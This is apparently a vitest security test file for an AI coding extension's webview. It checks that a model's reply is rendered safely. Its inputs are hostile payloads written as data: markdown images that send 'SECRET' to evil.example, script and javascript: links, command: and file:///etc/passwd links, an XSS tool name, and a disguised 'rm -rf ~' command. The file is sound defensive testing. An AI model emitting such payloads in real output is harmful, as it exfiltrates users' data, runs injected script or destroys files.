/** The `webview` rows of the security cases that are about rendering, each through the real panel: as a model's reply. */
import { afterAll, beforeAll, expect, test } from 'vitest';
import { Stage, type View } from './harness.ts';
import { created, events, init } from './scenes.ts';

let stage: Stage;
let view: View;
beforeAll(async () => {
  stage = await Stage.open();
  view = await stage.view();
});
afterAll(() => stage.close());

async function rendered(text: string): Promise<string> {
  const usage = { input: 1, output: 1, cached: 0, estimated: false };
  await view.send(init(events([...created, { type: 'turn.finished', turn: 1, text, calls: [], usage, end: 'stop' }])));
  return view.page
    .getByTestId('text')
    .locator('.block')
    .evaluate((block) => block.innerHTML.replaceAll(/<!--.*?-->/g, '').trim());
}

test.each([
  [
    'wv-md-image',
    '![x](https://evil.example/?d=SECRET)',
    '<p><a href="https://evil.example/?d=SECRET" title="https://evil.example/?d=SECRET">x</a></p>',
  ],
  [
    'wv-md-image-ref',
    '![x][r]\n\n[r]: https://evil.example/?d=SECRET',
    '<p><a href="https://evil.example/?d=SECRET" title="https://evil.example/?d=SECRET">x</a></p>',
  ],
  ['wv-html-image', '<img src="https://evil.example/a.png">', '<p>&lt;img src="https://evil.example/a.png"&gt;</p>'],
  [
    'wv-css-url',
    '<div style="background:url(https://evil.example/)">',
    '<p>&lt;div style="background:url(https://evil.example/)"&gt;</p>',
  ],
  [
    'wv-mermaid',
    '```mermaid\ngraph TD; A[<img src=https://evil.example/?d=S>]\n```',
    '<pre><code>graph TD; A[&lt;img src=https://evil.example/?d=S&gt;]\n</code></pre>',
  ],
  ['wv-script', '<script>acquireVsCodeApi()</script>', '<p>&lt;script&gt;acquireVsCodeApi()&lt;/script&gt;</p>'],
  ['wv-js-link', '[x](javascript:alert(1))', '<p>[x](javascript:alert(1))</p>'],
  [
    'wv-command-link',
    '[Run](command:workbench.action.reloadWindow)',
    '<p>[Run](command:workbench.action.reloadWindow)</p>',
  ],
  ['wv-file-link', '[a](file:///etc/passwd)', '<p>[a](file:///etc/passwd)</p>'],
  ['a plain http link', '[a](http://localhost:3000)', '<p>[a](http://localhost:3000)</p>'],
  ['a link without a scheme', '[a](//evil.example)', '<p>[a](//evil.example)</p>'],
  [
    'an svg document as image',
    '![a](data:image/svg+xml;base64,PHN2Zy8+)',
    '<p>![a](data:image/svg+xml;base64,PHN2Zy8+)</p>',
  ],
  ['an embedded document as link', '[a](data:image/png;base64,iVBORw0KGgo=)', '<p>a</p>'],
  [
    'wv-link-mismatch',
    '[https://github.com](https://evil.example)',
    '<p><a href="https://evil.example" title="https://evil.example">https://evil.example</a></p>',
  ],
  [
    'a label that is a bare host',
    '[github.com/login](https://evil.example)',
    '<p><a href="https://evil.example" title="https://evil.example">https://evil.example</a></p>',
  ],
  [
    'a label that is the address',
    '[nodejs.org](https://nodejs.org/)',
    '<p><a href="https://nodejs.org/" title="https://nodejs.org/">nodejs.org</a></p>',
  ],
  [
    'wv-ok-md',
    '**bold** `code` [docs](https://nodejs.org)',
    '<p><strong>bold</strong> <code>code</code> <a href="https://nodejs.org" title="https://nodejs.org">docs</a></p>',
  ],
  [
    'wv-ok-data-img',
    '![logo](data:image/png;base64,iVBORw0KGgo=)',
    '<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="logo"></p>',
  ],
])('%s', async (_, markdown, html) => expect(await rendered(markdown)).toBe(html));

test('nothing above asked the network for anything', () =>
  expect(view.trouble.filter(({ text }) => !text.includes('data:image'))).toEqual([]));

test('wv-tool-name-xss: names and results of tools are text', async () => {
  const usage = { input: 1, output: 1, cached: 0, estimated: false };
  const hostile = '<b onclick=alert(1)>x</b>';
  const call = { id: 'c1', name: hostile, arguments: JSON.stringify({ path: hostile }) };
  await view.send(
    init(
      events([
        ...created,
        { type: 'turn.finished', turn: 1, text: '', calls: [call], usage, end: 'calls' },
        {
          type: 'call.finished',
          call: 'c1',
          ok: true,
          forModel: hostile,
          title: hostile,
          changes: [{ path: hostile }],
        },
      ]),
    ),
  );
  const item = view.page.getByTestId('call');
  await item.locator('summary').click();
  await expect(item.locator('pre').last().textContent()).resolves.toBe(hostile);
  expect(await view.page.locator('b').count()).toBe(0);
});

test('a command shows characters that cannot be seen', async () => {
  const [request] = (await import('./scenes.ts')).askedCommand;
  if (request?.type !== 'approval.requested' || request.subject.kind !== 'command') throw new Error('scene changed');
  const subject = { ...request.subject, command: 'echo safe \u202e; rm -rf ~\u200b\r' };
  await view.send(init(events([...created, { ...request, subject }])));
  expect(await view.page.getByTestId('command').textContent()).toBe('echo safe U+202E; rm -rf ~U+200BU+000D');
});
